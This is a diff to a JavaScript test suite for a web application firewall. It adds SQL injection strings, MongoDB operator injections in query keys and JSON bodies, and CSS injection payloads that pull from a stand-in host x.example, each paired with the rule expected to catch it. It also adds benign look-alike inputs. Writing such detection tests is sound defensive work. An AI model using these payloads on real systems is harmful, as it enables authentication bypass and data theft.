@@ -3163,6 +3163,25 @@ describe("WAF", () => {
     ["/gw/open/search?id=1+group+by+5", "sqli-order-by"],
     ["/gw/open/search?id=1+and+greatest(ascii(mid(user()%2C1%2C1))%2C0)%3E64", "sqli-tautology"],
     ["/gw/open/search?id=1+and+password+like+%27a%25%27", "sqli-tautology"],
+    // Their third review: CASE WHEN, SQL Server's iif, MySQL's find_in_set uncompared, a digest compared with a
+    // string, a blind call's range, `sounds like`, error-based casts and calls; MongoDB operators past a key's first
+    // bracket; CSS injection.
+    [`/gw/open/search?id=${encodeURIComponent("1 and 1=(case when 1=1 then 1 else 0 end)")}`, "sqli-tautology"],
+    [`/gw/open/search?sort=${encodeURIComponent("(case when (1=1) then id else name end)")}`, "sqli-tautology"],
+    [`/gw/open/search?id=${encodeURIComponent("1 and iif(1=1,1,0)=1")}`, "sqli-tautology"],
+    [`/gw/open/search?id=${encodeURIComponent("1 and find_in_set('r',user())")}`, "sqli-tautology"],
+    [`/gw/open/search?id=${encodeURIComponent("1 and md5(password)>'5'")}`, "sqli-tautology"],
+    [`/gw/open/search?id=${encodeURIComponent("1 and length(database()) between 1 and 9")}`, "sqli-tautology"],
+    [`/gw/open/search?u=${encodeURIComponent("x' or 'a' sounds like 'a")}`, "sqli-tautology"],
+    [`/gw/open/search?u=${encodeURIComponent("x' and 1=cast(user() as int)--")}`, "sqli-tautology"],
+    [`/gw/open/search?u=${encodeURIComponent("x' and gtid_subset(user(),1)--")}`, "sqli-tautology"],
+    [`/gw/open/search?u=${encodeURIComponent("x' or 1 in (1) or '")}`, "sqli-tautology"],
+    ["/gw/open/search?filter[user][$ne]=x", "sqli-nosql"],
+    ["/gw/open/search?a%5Bb%5D%5B%24gt%5D=", "sqli-nosql"],
+    [`/gw/open/search?filter=${encodeURIComponent('{"user":{"$ne":null}}')}`, "sqli-nosql"],
+    [`/gw/open/search?q=${encodeURIComponent("<style>input[value^=a]{background:url(//x.example/a)}</style>")}`, "xss-style"],
+    [`/gw/open/search?q=${encodeURIComponent("<link rel=stylesheet href=//x.example/a.css>")}`, "xss-style"],
+    [`/gw/open/search?q=${encodeURIComponent("@import url(//x.example/a.css);")}`, "xss-style"],
   ];
   const bodyAttacks = [
     ["application/x-www-form-urlencoded", "name=x&comment=%3Cscript%3Esteal()%3C%2Fscript%3E", "xss-script"],
@@ -3197,6 +3216,11 @@ describe("WAF", () => {
     ["application/x-www-form-urlencoded", "user=admin&password%5B%24ne%5D=x", "sqli-nosql"],
     // A list of paths, one a line: the second line is a path of its own.
     ["application/x-www-form-urlencoded", "files=a.txt%0D%0A..%5Csecret.txt", "traversal-dotdot"],
+    // MongoDB operators as a JSON body's keys: a driver given the parsed body runs them.
+    ["application/json", JSON.stringify({ user: { $ne: null }, password: { $ne: null } }), "sqli-nosql"],
+    ["application/json", JSON.stringify({ $where: "this.password.length > 0" }), "sqli-nosql"],
+    ["application/json", JSON.stringify({ user: "admin", password: { $regex: "^a" } }), "sqli-nosql"],
+    ["application/x-www-form-urlencoded", "bio=%3Cstyle%3Ebody%7Bbackground%3Aurl(%2F%2Fx.example)%7D%3C%2Fstyle%3E", "xss-style"],
   ];
   const benign = [
     "/gw/open/search?name=O%27Brien",
@@ -3280,8 +3304,24 @@ describe("WAF", () => {
     `/gw/open/search?q=${encodeURIComponent("Then; delete the draft from the outbox")}`,
     `/gw/open/search?q=${encodeURIComponent("Please group by 5 people")}`,
     `/gw/open/search?q=${encodeURIComponent("x=1 and g(h(x))>2")}`,
+    // Their third review: Strapi's operators under its `filters`, `$` in a key naming no operator, prose and code
+    // beside the CASE, call and CSS shapes it added.
+    "/gw/open/search?filters[$not][title][$eq]=x&filters[price][$gt]=5&populate[author][filters][name][$ne]=bob",
+    "/gw/open/search?price[$]=5&sort[price]=asc&filter[category]=shoes&page[size]=20",
+    `/gw/open/search?q=${encodeURIComponent("just in case when it rains then bring an umbrella else stay home, end of story")}`,
+    `/gw/open/search?q=${encodeURIComponent("Page 1 and left(side)")}`,
+    `/gw/open/search?q=${encodeURIComponent("Released 2024 and iif(a,b,c) explained")}`,
+    `/gw/open/search?q=${encodeURIComponent("if x=1 and type(y)=='str':")}`,
+    `/gw/open/search?q=${encodeURIComponent("Rated 1 and f('x') -- great")}`,
+    `/gw/open/search?q=${encodeURIComponent("Follow the <style guide> please")}`,
+    `/gw/open/search?q=${encodeURIComponent("paste <link here> and the <link to docs>")}`,
+    `/gw/open/search?q=${encodeURIComponent("In SCSS write @import 'variables'; first")}`,
   ];
   const benignBodies = [
+    // JSON Schema's keywords and MongoDB's extended JSON: keys with a `$` that name no query operator.
+    ["application/json", JSON.stringify({ $schema: "https://json-schema.org/draft/2020-12/schema", $id: "user", properties: { a: { $ref: "#/$defs/a" } }, $defs: { a: { type: "string" } } })],
+    ["application/json", JSON.stringify({ _id: { $oid: "5f1c2a3e8b7d4c6e9a0f1d2e" }, at: { $date: "2026-01-01T00:00:00Z" }, price: "$5", op: "$gt" })],
+    ["text/css", "@import url(theme.css);\n@import 'variables';\nbody { color: red }"],
     // The third payload review: a list's entry, a title, a mail's line starting with a script scheme's name.
     ["text/plain", "Skills:\n- JavaScript: 5 years\n- Python: 3 years"],
     // Markdown with relative links and code spans; a SQL snippet ordering by a column's number.
